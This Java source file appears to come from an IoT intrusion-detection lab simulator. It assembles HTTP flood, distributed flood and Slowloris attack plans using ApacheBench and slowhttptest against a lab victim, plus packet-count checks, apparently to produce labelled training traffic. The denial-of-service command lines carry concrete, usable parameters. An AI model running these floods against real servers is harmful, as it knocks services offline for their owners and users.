package io.iotwatch.sim.lab;

import io.iotwatch.sim.truth.AttackKind;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Predicate;

/**
 * HTTP floods with ApacheBench, from one address (DoS) or from the three flood addresses at once (DDoS, ab
 * binding each to its own with {@code -B}), a new connection per request; and slowhttptest's SlowLoris: 300
 * connections that each send a header line every 5 s and never finish the request.
 */
final class HttpAttacks {

    private static final Duration AB_BOUND = Duration.ofSeconds(60);

    private HttpAttacks() {}

    static AttackPlan plan(AttackKind kind, LabSettings settings) {
        String victim = Topology.VICTIM.address();
        String url = "http://" + victim + "/";
        int requests = settings.floodPackets() / 4;
        Predicate<LabPacket> connection = p -> p.to(victim) && p.destinationPort() == 80 && p.syn();
        return switch (kind) {
            case HTTP_FLOOD -> {
                String attacker = Topology.ATTACKER.address();
                yield AttackPlan.simple(kind, List.of(attacker), victim, List.of("apache2-utils"),
                        List.of(ab(attacker, requests, 20, url)),
                        List.of(Criterion.count("connections from " + attacker + " to " + victim + ":80", requests / 2,
                                p -> p.from(attacker) && connection.test(p))));
            }
            case DDOS_HTTP_FLOOD -> {
                List<String> sources = Attacks.FLOOD_SOURCES;
                List<NsCommand> commands = new ArrayList<>();
                for (String source : sources) {
                    commands.add(ab(source, requests / sources.size(), 8, url));
                }
                yield AttackPlan.simple(kind, sources, victim, List.of("apache2-utils"), commands,
                        Attacks.fromEverySource("connections to port 80", requests / 2, sources, victim, connection));
            }
            case SLOWLORIS -> {
                String attacker = Topology.ATTACKER.address();
                yield AttackPlan.simple(kind, List.of(attacker), victim, List.of("slowhttptest"),
                        List.of(NsCommand.bounded(Topology.ATTACKER, Duration.ofSeconds(45), "slowhttptest", "-H",
                                "-c", "300", "-r", "100", "-i", "5", "-l", "25", "-x", "24", "-p", "3", "-u", url)),
                        List.of(Criterion.count("connections from " + attacker + " to " + victim + ":80", 150,
                                        p -> p.from(attacker) && connection.test(p)),
                                Criterion.count("header lines trickled in (X- headers)", 150,
                                        p -> p.from(attacker) && p.to(victim) && p.payloadContains("X-"))));
            }
            default -> throw new IllegalArgumentException(kind.id + " is no HTTP flood");
        };
    }

    /** ab from {@code source}: {@code requests} GETs, {@code concurrency} at a time, not stopping at errors. */
    private static NsCommand ab(String source, int requests, int concurrency, String url) {
        return NsCommand.bounded(Topology.ATTACKER, AB_BOUND, "ab", "-q", "-r", "-s", "5", "-B", source,
                "-n", Integer.toString(requests), "-c", Integer.toString(concurrency), url);
    }
}
